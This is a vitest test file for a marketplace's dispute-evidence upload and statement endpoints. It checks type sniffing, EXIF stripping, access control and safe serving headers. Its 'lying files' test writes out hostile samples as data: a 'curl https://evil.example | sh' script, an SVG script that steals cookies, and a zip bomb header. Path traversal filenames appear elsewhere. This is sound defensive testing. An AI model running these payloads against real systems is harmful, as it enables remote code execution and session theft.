import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EVIDENCE_MAX_BYTES, EVIDENCE_MESSAGES as M, STATEMENT_MAX_LENGTH } from '@holdfast/contracts';
import { disputeEvidence, emailOutbox } from '../../db/schema/index.js';
import { createTestApp, type TestApp } from '../../test/test-app.js';
import { registerUser, type RegisteredUser } from '../../test/factories.js';
import { acceptedFundedTransaction, as } from '../../test/money-factories.js';
import { IMAGES, multipartBody } from '../../test/multipart.js';

/** Evidence and statements through the real app and HTTP multipart, files on a disk store of its own. */
let t: TestApp;
let dataDir: string;
let moderator: RegisteredUser;
let stranger: RegisteredUser;
let jpegWithExif: Buffer;
let pdf: Buffer;
beforeAll(async () => {
  dataDir = mkdtempSync(path.join(tmpdir(), 'holdfast-evidence-'));
  t = await createTestApp({ env: { DATA_DIR: dataDir } });
  [moderator, stranger] = await Promise.all([registerUser(t.app, { role: 'moderator' }), registerUser(t.app)]);
  // A phone photo's metadata: where it was taken and by what.
  jpegWithExif = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#c04020' } })
    .jpeg()
    .withExif({ IFD0: { Make: 'PhoneCo', Model: 'Secret 9', Copyright: 'home address' } })
    .toBuffer();
  pdf = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
});
afterAll(async () => {
  await t.close();
  rmSync(dataDir, { recursive: true, force: true });
});

/** A funded, accepted transaction with an open dispute its buyer opened. */
async function disputed() {
  const deal = await acceptedFundedTransaction(t.app, { amount: '100.00' });
  const res = await as(t.app, deal.buyer)('POST', '/api/disputes', {
    transactionId: deal.transaction.id,
    type: 'quality_issue',
    description: 'Arrived broken',
  });
  expect(res.statusCode).toBe(201);
  return { ...deal, disputeId: res.json().id as string };
}

function upload(
  who: RegisteredUser | null,
  disputeId: string,
  file: { data: Buffer | string; filename?: string; contentType?: string },
  caption?: string,
) {
  const parts = [
    ...(caption === undefined ? [] : [{ name: 'caption', data: caption }]),
    { name: 'file', filename: 'photo.jpg', contentType: 'image/jpeg', ...file },
  ];
  const { payload, contentType } = multipartBody(parts);
  return t.app.inject({
    method: 'POST',
    url: `/api/disputes/${disputeId}/evidence`,
    payload,
    headers: { 'content-type': contentType, ...(who ? { cookie: who.cookie } : {}) },
  });
}

/** `who`'s bell notifications of one event type, once the due jobs (the notify fan-out) have run. */
async function bellsOf(who: RegisteredUser, type: string) {
  await t.app.scheduler.runDue();
  const res = await as(t.app, who)('GET', '/api/notifications');
  return (res.json().notifications as { type: string; title: string; link: string | null }[]).filter(
    (n) => n.type === type,
  );
}

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
const evidenceDir = () => path.join(dataDir, 'uploads', 'dispute-evidence');
/** Files in the store's evidence folder (a refused upload leaves none behind). */
const storedFiles = () =>
  existsSync(evidenceDir()) ? readdirSync(evidenceDir()).filter((n) => !n.startsWith('.')).length : 0;

describe('POST /api/disputes/:id/evidence', () => {
  it('a JPEG is re-encoded without its EXIF; its hash is of the stored bytes; history and the seller are told', async () => {
    const { buyer, seller, disputeId } = await disputed();
    const res = await upload(
      buyer,
      disputeId,
      { data: jpegWithExif, filename: '../../etc/IMG_0001.jpg' },
      '  Box crushed ',
    );
    expect(res.statusCode).toBe(201);
    const evidence = res.json();
    expect(evidence).toMatchObject({
      disputeId,
      author: { role: 'buyer' },
      fileName: 'IMG_0001.jpg',
      caption: 'Box crushed',
      contentType: 'image/jpeg',
      url: `/api/disputes/${disputeId}/evidence/${evidence.id}`,
    });
    expect(evidence.author.name).not.toContain('@');

    const served = await as(t.app, seller)('GET', evidence.url);
    expect(served.statusCode).toBe(200);
    expect(served.headers).toMatchObject({
      'content-type': 'image/jpeg',
      'x-content-type-options': 'nosniff',
      'cache-control': 'private, no-store',
    });
    expect(served.headers['content-disposition']).toMatch(/^inline; filename="IMG_0001\.jpg"/);
    expect(served.headers['content-security-policy']).toContain('sandbox');
    const meta = await sharp(served.rawPayload).metadata();
    expect(meta.exif).toBeUndefined();
    expect(served.rawPayload.includes(Buffer.from('PhoneCo'))).toBe(false);
    expect(sha256(served.rawPayload)).toBe(evidence.sha256);
    expect(evidence.size).toBe(served.rawPayload.length);

    const { timeline } = (await as(t.app, buyer)('GET', `/api/disputes/${disputeId}`)).json();
    expect(timeline.map((e: { action: string }) => e.action)).toContain('evidence_added');
    const bells = await bellsOf(seller, 'dispute.evidence_added');
    expect(bells.map((b) => b.title)).toEqual(['New evidence in a dispute']);
    expect(await bellsOf(buyer, 'dispute.evidence_added')).toEqual([]);
    const emails = await t.app.database.db.select().from(emailOutbox).where(eq(emailOutbox.to, seller.email));
    expect(emails.map((e) => e.subject)).toContain('New evidence in the dispute on A vintage camera');
  });

  it('PNG and WebP are kept as their type; a PDF is stored as it came, as an attachment', async () => {
    const { buyer, seller, disputeId } = await disputed();
    const png = await upload(seller, disputeId, { data: IMAGES.png, filename: 'a.png', contentType: 'image/png' });
    expect(png.statusCode).toBe(201);
    expect(png.json()).toMatchObject({ contentType: 'image/png', author: { role: 'seller' }, caption: '' });
    const webp = await upload(seller, disputeId, { data: IMAGES.webp, filename: 'b.webp' }, 'Label');
    expect(webp.statusCode).toBe(201);
    expect(webp.json().contentType).toBe('image/webp');

    const res = await upload(seller, disputeId, { data: pdf, filename: 'receipt;final.pdf' }, 'Courier receipt');
    expect(res.statusCode).toBe(201);
    expect(res.json()).toMatchObject({ contentType: 'application/pdf', size: pdf.length, sha256: sha256(pdf) });
    const served = await as(t.app, buyer)('GET', res.json().url);
    expect(served.headers['content-type']).toBe('application/pdf');
    expect(served.headers['content-disposition']).toMatch(
      /^attachment; filename="receipt_final\.pdf"; filename\*=UTF-8''receipt%3Bfinal\.pdf$/,
    );
    expect(served.rawPayload.equals(pdf)).toBe(true);

    const list = await as(t.app, moderator)('GET', `/api/disputes/${disputeId}/evidence`);
    expect(list.statusCode).toBe(200);
    expect(list.json().map((e: { contentType: string }) => e.contentType)).toEqual([
      'image/png',
      'image/webp',
      'application/pdf',
    ]);
  });

  it('lying files are refused by their content, with stable codes, and nothing is stored', async () => {
    const { buyer, disputeId } = await disputed();
    const before = storedFiles();
    const refusals: [string, Buffer, string][] = [
      ['shell.png', Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), 'EVIDENCE_TYPE_NOT_ALLOWED'],
      [
        'vector.png',
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'),
        'EVIDENCE_TYPE_NOT_ALLOWED',
      ],
      // A zip bomb's header is enough: it is refused by its type before anything unpacks it.
      [
        'bomb.zip',
        Buffer.concat([Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00'), Buffer.alloc(64)]),
        'EVIDENCE_TYPE_NOT_ALLOWED',
      ],
      ['half.jpg', jpegWithExif.subarray(0, 40), 'EVIDENCE_TYPE_NOT_ALLOWED'],
      ['empty.jpg', Buffer.alloc(0), 'EVIDENCE_EMPTY'],
    ];
    for (const [filename, data, code] of refusals) {
      const res = await upload(buyer, disputeId, { data, filename, contentType: 'image/png' });
      expect(res.statusCode, filename).toBe(400);
      expect(res.json().code, filename).toBe(code);
    }
    const big = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(EVIDENCE_MAX_BYTES)]);
    const tooBig = await upload(buyer, disputeId, { data: big, filename: 'huge.pdf' });
    expect(tooBig.statusCode).toBe(413);
    expect(tooBig.json()).toMatchObject({ code: 'EVIDENCE_TOO_LARGE', message: M.tooLarge });
    expect(storedFiles()).toBe(before);
    expect((await as(t.app, buyer)('GET', `/api/disputes/${disputeId}/evidence`)).json()).toEqual([]);
  });

  it('each side adds at most 20 files; the 21st is 409, the other side still has room', async () => {
    const { buyer, seller, disputeId } = await disputed();
    for (let i = 0; i < 20; i++) expect((await upload(seller, disputeId, { data: pdf })).statusCode).toBe(201);
    const over = await upload(seller, disputeId, { data: pdf });
    expect(over.statusCode).toBe(409);
    expect(over.json().code).toBe('EVIDENCE_LIMIT_REACHED');
    expect((await upload(buyer, disputeId, { data: pdf })).statusCode).toBe(201);
  });

  it('who may add: parties, the moderator of an open unassigned case, its assigned moderator, admins', async () => {
    const { buyer, disputeId } = await disputed();
    expect((await upload(stranger, disputeId, { data: pdf })).statusCode).toBe(404);
    expect((await upload(null, disputeId, { data: pdf })).statusCode).toBe(401);
    const mod = await upload(moderator, disputeId, { data: pdf });
    expect(mod.statusCode).toBe(201);
    expect(mod.json().author.role).toBe('moderator');
    const assigned = await as(t.app, moderator)('PATCH', `/api/disputes/${disputeId}/assign`, {
      moderatorId: moderator.user.id,
    });
    expect(assigned.statusCode).toBe(200);
    const other = await registerUser(t.app, { role: 'moderator' });
    const refused = await upload(other, disputeId, { data: pdf });
    expect(refused.statusCode).toBe(403);
    expect(refused.json().message).toBe(M.notAllowed);
    // Another moderator may still read the case's files (as they read the case).
    expect((await as(t.app, other)('GET', `/api/disputes/${disputeId}/evidence`)).statusCode).toBe(200);
    const admin = await registerUser(t.app, { role: 'admin' });
    expect((await upload(admin, disputeId, { data: pdf })).json().author.role).toBe('admin');
    expect((await upload(buyer, disputeId, { data: pdf })).statusCode).toBe(201);
    expect((await upload(buyer, '00000000-0000-4000-8000-000000000000', { data: pdf })).statusCode).toBe(404);
    expect((await upload(buyer, 'not-a-uuid', { data: pdf })).statusCode).toBe(404);
  });

  it('a resolved case takes no more files or statements (409 DISPUTE_RESOLVED)', async () => {
    const { buyer, disputeId } = await disputed();
    const resolved = await as(t.app, moderator)('PATCH', `/api/disputes/${disputeId}/resolve`, {
      resolution: 'release_to_seller',
      resolutionNotes: 'Tracking shows delivery',
    });
    expect(resolved.statusCode).toBe(200);
    const res = await upload(buyer, disputeId, { data: pdf });
    expect(res.statusCode).toBe(409);
    expect(res.json().code).toBe('DISPUTE_RESOLVED');
    const said = await as(t.app, buyer)('POST', `/api/disputes/${disputeId}/statements`, { text: 'Too late?' });
    expect(said.statusCode).toBe(409);
    expect(said.json().code).toBe('DISPUTE_RESOLVED');
  });

  it('a caption over 300 characters or with control characters is refused', async () => {
    const { buyer, disputeId } = await disputed();
    const long = await upload(buyer, disputeId, { data: pdf }, 'x'.repeat(301));
    expect(long.statusCode).toBe(400);
    expect(long.json().message).toBe(M.captionTooLong);
    const huge = await upload(buyer, disputeId, { data: pdf }, 'x'.repeat(5000));
    expect(huge.statusCode).toBe(400);
    const nul = await upload(buyer, disputeId, { data: pdf }, 'bad\u0000caption');
    expect(nul.statusCode).toBe(400);
    expect((await upload(buyer, disputeId, { data: pdf }, 'x'.repeat(300))).statusCode).toBe(201);
  });
});

describe('reading evidence', () => {
  it('strangers, parties of another case and another case’s id pair get 404; the file is never public', async () => {
    const a = await disputed();
    const b = await disputed();
    const mine = (await upload(a.buyer, a.disputeId, { data: IMAGES.png, filename: 'a.png' })).json();
    const theirs = (await upload(b.buyer, b.disputeId, { data: pdf })).json();

    for (const who of [stranger, b.buyer, b.seller]) {
      expect((await as(t.app, who)('GET', mine.url)).statusCode).toBe(404);
      expect((await as(t.app, who)('GET', `/api/disputes/${a.disputeId}/evidence`)).statusCode).toBe(404);
      expect((await as(t.app, who)('GET', `/api/disputes/${a.disputeId}/statements`)).statusCode).toBe(404);
    }
    expect((await as(t.app, null)('GET', mine.url)).statusCode).toBe(401);
    // B's file under A's case, asked by a party of A: no such file in A.
    const mixed = await as(t.app, a.buyer)('GET', `/api/disputes/${a.disputeId}/evidence/${theirs.id}`);
    expect(mixed.statusCode).toBe(404);
    expect((await as(t.app, a.buyer)('GET', `/api/disputes/${a.disputeId}/evidence/nope`)).statusCode).toBe(404);

    // Stored under a private prefix with a random name, which no public route serves.
    const [row] = await t.app.database.db.select().from(disputeEvidence).where(eq(disputeEvidence.id, mine.id));
    expect(row!.storageKey).toMatch(/^dispute-evidence\/[a-f0-9]{32}$/);
    expect(row!.storageKey).not.toContain(mine.id);
    expect(existsSync(path.join(dataDir, 'uploads', ...row!.storageKey.split('/')))).toBe(true);
    const name = row!.storageKey.split('/')[1]!;
    for (const url of [
      `/api/files/profile-pictures/${name}`,
      `/api/files/profile-pictures/${name}.png`,
      `/api/files/profile-pictures/..%2Fdispute-evidence%2F${name}`,
      `/api/files/dispute-evidence/${name}`,
      `/uploads/dispute-evidence/${name}`,
    ]) {
      const res = await as(t.app, a.buyer)('GET', url);
      // An API address is a 404; any other is the web app's page when the web is built (never the file).
      if (url.startsWith('/api/')) expect(res.statusCode, url).toBe(404);
      else
        expect(res.statusCode === 404 || String(res.headers['content-type']).startsWith('text/html'), url).toBe(true);
      expect(String(res.headers['content-type']), url).not.toMatch(/^image\//);
    }
  });
});

describe('statements', () => {
  it('the parties write statements, trimmed, oldest first; the other party and the moderator are told', async () => {
    const { buyer, seller, disputeId } = await disputed();
    await as(t.app, moderator)('PATCH', `/api/disputes/${disputeId}/assign`, { moderatorId: moderator.user.id });
    const first = await as(t.app, buyer)('POST', `/api/disputes/${disputeId}/statements`, {
      text: '  The screen was cracked on arrival.  ',
    });
    expect(first.statusCode).toBe(201);
    expect(first.json()).toMatchObject({
      disputeId,
      author: { role: 'buyer' },
      text: 'The screen was cracked on arrival.',
    });
    expect((await bellsOf(seller, 'dispute.statement_added')).map((b) => b.title)).toEqual([
      'New statement in a dispute',
    ]);
    expect((await bellsOf(moderator, 'dispute.statement_added')).map((b) => b.link)).toEqual(['/moderator-dashboard']);
    expect(await bellsOf(buyer, 'dispute.statement_added')).toEqual([]);

    const reply = await as(t.app, seller)('POST', `/api/disputes/${disputeId}/statements`, { text: 'It left intact.' });
    expect(reply.statusCode).toBe(201);
    for (const who of [buyer, seller, moderator]) {
      const list = await as(t.app, who)('GET', `/api/disputes/${disputeId}/statements`);
      expect(list.json().map((s: { author: { role: string } }) => s.author.role)).toEqual(['buyer', 'seller']);
    }
  });

  it('refuses empty, too long and control characters (400), staff (403) and strangers (404)', async () => {
    const { buyer, disputeId } = await disputed();
    const say = (who: RegisteredUser, text: unknown) =>
      as(t.app, who)('POST', `/api/disputes/${disputeId}/statements`, { text });
    expect((await say(buyer, '   ')).json()).toMatchObject({ code: 'VALIDATION', message: M.statementRequired });
    expect((await say(buyer, 'x'.repeat(STATEMENT_MAX_LENGTH + 1))).json().message).toBe(M.statementTooLong);
    expect((await say(buyer, 'a\u202Eb')).statusCode).toBe(400);
    expect((await say(buyer, 'x'.repeat(STATEMENT_MAX_LENGTH))).statusCode).toBe(201);
    const staff = await say(moderator, 'I am staff');
    expect(staff.statusCode).toBe(403);
    expect(staff.json().message).toBe(M.statementPartiesOnly);
    expect((await say(stranger, 'Hello')).statusCode).toBe(404);
  });
});
